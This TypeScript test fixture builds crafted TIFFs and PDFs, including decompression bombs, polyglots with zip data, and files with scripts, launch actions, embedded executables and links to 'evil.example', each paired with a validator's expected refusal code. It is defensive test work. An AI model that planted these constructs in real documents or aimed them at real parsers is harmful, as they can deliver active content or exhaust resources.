import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { drawing, hiddenScript, makePdf, onePagePdf, streamObject } from '../imaging/opening/hostile.testing.ts';
import { g4Page, makeTiff, type TestPage } from '../imaging/tiff/make-tiff.testing.ts';

// TIFF tags by number: 256 width, 257 height, 258 bits per sample, 259 compression, 262 photometric interpretation, 273 strip offsets,
// 277 samples per pixel, 278 rows per strip, 279 bytes per strip.

/** White rows in CCITT group 4 (each takes one bit), followed by the end-of-data code. */
const whiteRows = (count: number): Buffer =>
  Buffer.concat([Buffer.alloc(Math.floor(count / 8), 0xff), Buffer.from('001001', 'hex')]);
const whitePage = (width: number, height: number, more: Record<number, number> = {}): TestPage =>
  g4Page(whiteRows(height), { 256: width, 257: height, 278: height, ...more });
/** An uncompressed page of 8 by 8 pixels. */
const uncompressedPage = (tags: Record<number, number> = {}): TestPage => ({
  tags: { 256: 8, 257: 8, 258: 1, 259: 1, 262: 0, 277: 1, 278: 8, ...tags },
  strips: [Buffer.alloc(8)],
});

/** A BigTIFF of one page without compression, with the most significant byte first. */
function bigEndianBigTiff(): Buffer {
  const entries: readonly [number, number, number][] = [
    [256, 4, 8],
    [257, 4, 8],
    [258, 3, 1],
    [259, 3, 1],
    [262, 3, 0],
    [273, 16, 16],
    [277, 3, 1],
    [278, 4, 8],
    [279, 16, 8],
  ];
  const file = Buffer.alloc(24 + 8 + entries.length * 20 + 8);
  file.write('MM\0+', 0, 'latin1');
  file.writeUInt16BE(8, 4);
  file.writeBigUInt64BE(24n, 8);
  file.writeBigUInt64BE(BigInt(entries.length), 24);
  for (const [index, [tag, type, value]] of entries.entries()) {
    const at = 32 + index * 20;
    file.writeUInt16BE(tag, at);
    file.writeUInt16BE(type, at + 2);
    file.writeBigUInt64BE(1n, at + 4);
    if (type === 3) file.writeUInt16BE(value, at + 12);
    else if (type === 4) file.writeUInt32BE(value, at + 12);
    else file.writeBigUInt64BE(BigInt(value), at + 12);
  }
  return file;
}

/** A TIFF of two pages, where the second points back to the first. */
function circularTiff(): Buffer {
  const regular = makeTiff([uncompressedPage(), uncompressedPage()]);
  return makeTiff([uncompressedPage(), uncompressedPage()], { lastNext: regular.readUInt32LE(4) });
}
const MOVIE = '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>';
const embedded = '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>';
const file = streamObject(Buffer.from('MZ'), 0, '/Type /EmbeddedFile');
const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** A PDF whose catalog and open action are in an object stream, with a cross-reference stream instead of a table. */
function inCompressedObjects(action: string): Buffer {
  const packed = [
    [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'],
    [4, action],
  ] as const;
  let text = '';
  const offsets = packed.map(([number, object]) => {
    const entry = `${number} ${text.length}`;
    text += `${object} `;
    return entry;
  });
  const index = `${offsets.join(' ')} `;
  const stream = streamObject(Buffer.from(index + text), 1, `/Type /ObjStm /N ${packed.length} /First ${index.length}`);
  const before = Buffer.from('%PDF-1.7\n', 'latin1');
  const objects = Buffer.concat([Buffer.from('5 0 obj\n'), stream, Buffer.from('\nendobj\n')]);
  const tableAt = before.length + objects.length;
  const row = (kind: number, a: number, b: number): Buffer => {
    const bytes = Buffer.alloc(6);
    bytes.writeUInt8(kind, 0);
    bytes.writeUInt32BE(a, 1);
    bytes.writeUInt8(b, 5);
    return bytes;
  };
  const rows = Buffer.concat([
    row(0, 0, 255),
    ...packed.map((_, position) => row(2, 5, position)),
    row(1, before.length, 0),
    row(1, tableAt, 0),
  ]);
  const table = streamObject(rows, 1, '/Type /XRef /W [1 4 1] /Size 7 /Root 1 0 R');
  const end = Buffer.from(`\nendobj\nstartxref\n${tableAt}\n%%EOF\n`);
  return Buffer.concat([before, objects, Buffer.from('6 0 obj\n'), table, end]);
}

const annotated = (annotation: string, ...more: (string | Buffer)[]): Buffer =>
  onePagePdf(drawing, { page: '/Annots [5 0 R]', more: [annotation, ...more] });
const pdfOfPages = (count: number): Buffer =>
  makePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: count }, (_, index) => `${index + 3} 0 R`).join(' ')}] /Count ${count} >>`,
    ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'),
  ]);
/** Appends a newer catalog to a file, as an editor does in an incremental update. */
function withUpdate(pdf: Buffer, catalog: string): Buffer {
  const text = pdf.toString('latin1');
  const before = /startxref\n(\d+)/.exec(text)?.[1] ?? '0';
  const object = `1 0 obj\n${catalog}\nendobj\n`;
  const table = `xref\n1 1\n${String(pdf.length).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev ${before} >>\nstartxref\n${pdf.length + object.length}\n%%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(object + table, 'latin1')]);
}
const replaced = (pdf: Buffer, pattern: RegExp, by: string): Buffer =>
  Buffer.from(pdf.toString('latin1').replace(pattern, by), 'latin1');

/** Replaces the cross-reference table. */
const withTable = (pdf: Buffer, table: string): Buffer => {
  const text = pdf.toString('latin1');
  return Buffer.from(text.slice(0, text.indexOf('xref\n0')) + table + text.slice(text.indexOf('trailer')), 'latin1');
};

/** The expected outcome for a document: its page count, or the code of its refusal. */
export type Outcome =
  | number
  | 'EFILE_FORMAT'
  | 'EFILE_UNREADABLE'
  | 'EFILE_PROTECTED'
  | 'EFILE_ACTIVE'
  | 'EFILE_TOO_MANY_PAGES';
export type TestDocument = readonly [description: string, bytes: Buffer, outcome: Outcome];

/** TIFFs as scanners, converters and attackers make them. */
export async function craftedTiffs(): Promise<readonly TestDocument[]> {
  const [width, height] = [1700, 2200];
  const pixels = Buffer.from(Array.from({ length: width * height }, (_, index) => ((index >> 5) % 7 === 0 ? 0 : 255)));
  const gray = sharp(pixels, { raw: { width, height, channels: 1 } }).toColourspace('b-w');
  const color = sharp({ create: { width: 400, height: 300, channels: 3, background: 'red' } });
  const one = makeTiff([uncompressedPage()]);
  const withZip = Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]);
  const deflated = (side: number): TestPage => ({
    tags: { 256: side, 257: side, 258: 1, 259: 8, 262: 1, 277: 1, 278: side },
    strips: [deflateSync(Buffer.alloc((side / 8) * side))],
  });
  return [
    ['G4 in tiles', await gray.clone().tiff({ compression: 'ccittfax4', bitdepth: 1, tile: true }).toBuffer(), 1],
    ['G4 in strips', await gray.clone().tiff({ compression: 'ccittfax4', bitdepth: 1 }).toBuffer(), 1],
    ['16 bits per pixel', await gray.clone().toColourspace('rgb16').tiff({ compression: 'lzw' }).toBuffer(), 1],
    ['CMYK', await color.clone().toColourspace('cmyk').tiff({ compression: 'lzw' }).toBuffer(), 1],
    ['BigTIFF', await gray.clone().tiff({ bigtiff: true, compression: 'deflate' }).toBuffer(), 1],
    ['BigTIFF, most significant byte first', bigEndianBigTiff(), 1],
    [
      'most significant byte first, two pages',
      makeTiff([uncompressedPage(), uncompressedPage()], { isBigEndian: true }),
      2,
    ],
    ['a second page that points back to the first', circularTiff(), 2],
    ['a TIFF followed by a zip file', withZip, 1],
    ['a page of 24,000 x 24,000 pixels in 3 KB of G4', makeTiff([whitePage(24_000, 24_000)]), 1],
    ['a page of 65,535 x 65,535 pixels in 8 KB of G4', makeTiff([whitePage(65_535, 65_535)]), 'EFILE_UNREADABLE'],
    [
      '100 pages of 20,000 x 20,000 pixels in G4',
      makeTiff(Array.from({ length: 100 }, () => whitePage(20_000, 20_000))),
      'EFILE_TOO_MANY_PAGES',
    ],
    ['a page of 24,000 x 24,000 pixels in deflate', makeTiff([deflated(24_000)]), 1],
    ['1,000 pages', makeTiff(Array.from({ length: 1_000 }, () => uncompressedPage())), 1_000],
    ['1,001 pages', makeTiff(Array.from({ length: 1_001 }, () => uncompressedPage())), 'EFILE_TOO_MANY_PAGES'],
    ...([34712, 34661, 34925, 34887, 32766, 65000] as const).map(
      (compression): TestDocument => [
        `compression ${compression}`,
        makeTiff([uncompressedPage({ 259: compression })]),
        'EFILE_UNREADABLE',
      ],
    ),
    [
      'a second page with truncated data',
      makeTiff([uncompressedPage(), g4Page(Buffer.from('0011223344', 'hex'))]),
      'EFILE_UNREADABLE',
    ],
    [
      'a directory offset beyond the end of the file',
      makeTiff([uncompressedPage()], { lastNext: 99_999_999 }),
      'EFILE_UNREADABLE',
    ],
    ['no directory', Buffer.from('II*\0\0\0\0\0', 'latin1'), 'EFILE_UNREADABLE'],
    ['nothing after the signature', Buffer.from('MM\0*', 'latin1'), 'EFILE_UNREADABLE'],
    ['an image width of 0', makeTiff([uncompressedPage({ 256: 0 })]), 'EFILE_UNREADABLE'],
    ['strip offsets beyond the end of the file', withStripOffsetsBeyondEnd(one), 'EFILE_UNREADABLE'],
  ];
}

/** Changes the strip offsets (tag 273) to an offset beyond the end of the file. */
function withStripOffsetsBeyondEnd(tiff: Buffer): Buffer {
  const changed = Buffer.from(tiff);
  const directory = changed.readUInt32LE(4);
  const count = changed.readUInt16LE(directory);
  for (let index = 0; index < count; index += 1) {
    const at = directory + 2 + index * 12;
    if (changed.readUInt16LE(at) === 273) changed.writeUInt32LE(0x7fffffff, at + 8);
  }
  return changed;
}

/** PDFs as printers, editors and attackers make them. */
export function craftedPdfs(): readonly TestDocument[] {
  const one = onePagePdf(drawing);
  const link = (action: string): Buffer =>
    annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A ${action} >>`);
  return [
    ['a cross-reference offset beyond the end of the file', replaced(one, /startxref\n\d+/, 'startxref\n99999999'), 1],
    ['a cross-reference table with invalid content', withTable(one, 'xref\n0 5\nrubbish\n'), 1],
    ['no cross-reference table', withTable(one, ''), 1],
    ['neither cross-reference table nor trailer', one.subarray(0, one.lastIndexOf('xref\n0')), 'EFILE_UNREADABLE'],
    ['a future version of PDF', replaced(one, /%PDF-1\.7/, '%PDF-2.9'), 1],
    ['a link to a website', link('<< /S /URI /URI (https://example.com) >>'), 1],
    ['a PDF followed by a zip file', Buffer.concat([one, Buffer.from('PK\u0003\u0004 a program', 'latin1')]), 1],
    [
      'content that unpacks to 256 MB',
      onePagePdf(streamObject(Buffer.alloc(256 * 1024 * 1024, ' '), 2)),
      'EFILE_UNREADABLE',
    ],
    ['1,000 pages', pdfOfPages(1_000), 1_000],
    ['10,000 pages', pdfOfPages(10_000), 'EFILE_TOO_MANY_PAGES'],
    ['a wrong page count', replaced(one, /\/Count 1/, '/Count 2147483647'), 1],
    ['a script in compressed objects', inCompressedObjects(script), 'EFILE_ACTIVE'],
    ['a page to open at, in compressed objects', inCompressedObjects('[3 0 R /Fit]'), 1],
    [
      'a script added by an incremental update',
      withUpdate(one, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`),
      'EFILE_ACTIVE',
    ],
    ['a link that runs a script', link(script), 'EFILE_ACTIVE'],
    ['a script between two streams that seem to be one', hiddenScript(), 'EFILE_ACTIVE'],
    ['a script that follows another action of a link', link(`<< /S /URI /URI (x) /Next ${script} >>`), 'EFILE_ACTIVE'],
    [
      'a named script',
      onePagePdf(drawing, { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [script] }),
      'EFILE_ACTIVE',
    ],
    ['a link that starts a program', link('<< /S /Launch /F (calc.exe) >>'), 'EFILE_ACTIVE'],
    ['a link to a file on a server', link('<< /S /GoToR /F (//evil.example/a) /D [0 /Fit] >>'), 'EFILE_ACTIVE'],
    ['a link that submits a form', link('<< /S /SubmitForm /F (http://evil.example) >>'), 'EFILE_ACTIVE'],
    [
      'an attached file',
      annotated('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>', file, embedded),
      'EFILE_ACTIVE',
    ],
    ['an associated file', onePagePdf(drawing, { catalog: '/AF [5 0 R]', more: [embedded, file] }), 'EFILE_ACTIVE'],
    ['a movie', annotated(MOVIE), 'EFILE_ACTIVE'],
    [
      'an XFA form',
      onePagePdf(drawing, {
        catalog: '/AcroForm << /XFA 5 0 R /Fields [] >>',
        more: [streamObject(Buffer.from('<xdp/>'), 0)],
      }),
      'EFILE_ACTIVE',
    ],
    ['a password', passwordProtected(), 'EFILE_PROTECTED'],
    ['nothing after the signature', Buffer.from('%PDF-1.7\n'), 'EFILE_UNREADABLE'],
    [
      'a page object that is missing',
      replaced(one, /\/Kids \[3 0 R\] \/Count 1/, '/Kids [3 0 R 99 0 R] /Count 2'),
      'EFILE_UNREADABLE',
    ],
    ['the first half of a PDF', one.subarray(0, one.length / 2), 'EFILE_UNREADABLE'],
  ];
}

function passwordProtected(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R >>',
  ];
  const keys = `/O <${'a'.repeat(64)}> /U <${'b'.repeat(64)}>`;
  return makePdf(objects, `/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 ${keys} >> /ID [<00> <00>]`);
}

/** Files that are neither PDF nor TIFF. */
export async function otherFiles(): Promise<readonly TestDocument[]> {
  const picture = sharp({ create: { width: 64, height: 64, channels: 3, background: 'blue' } });
  const pdf = onePagePdf(drawing);
  const pdfAfter = (prefix: string): Buffer => Buffer.concat([Buffer.from(prefix, 'latin1'), pdf]);
  const all: readonly (readonly [string, Buffer])[] = [
    ['an empty file', Buffer.alloc(0)],
    ['one byte', Buffer.from('%')],
    ['a JPEG', await picture.clone().jpeg().toBuffer()],
    ['a PNG', await picture.clone().png().toBuffer()],
    ['a WebP', await picture.clone().webp().toBuffer()],
    ['a GIF', await picture.clone().gif().toBuffer()],
    ['a Word document', Buffer.from('PK\u0003\u0004[Content_Types].xml', 'latin1')],
    ['PostScript', Buffer.from('%!PS-Adobe-3.0\n')],
    ['HTML followed by a PDF', pdfAfter('<html><script>alert(1)</script>')],
    ['a zip signature followed by a PDF', pdfAfter('PK\u0003\u0004')],
    ['a GIF signature followed by a PDF', pdfAfter('GIF89a')],
    ['a byte order mark followed by a PDF', pdfAfter('\u00ef\u00bb\u00bf')],
    ['a TIFF with an unknown version number', Buffer.from('II\x2b\x01\x08\0\0\0', 'latin1')],
    ['plain text', Buffer.from('Dear county,')],
  ];
  return all.map(([description, bytes]) => [description, bytes, 'EFILE_FORMAT']);
}
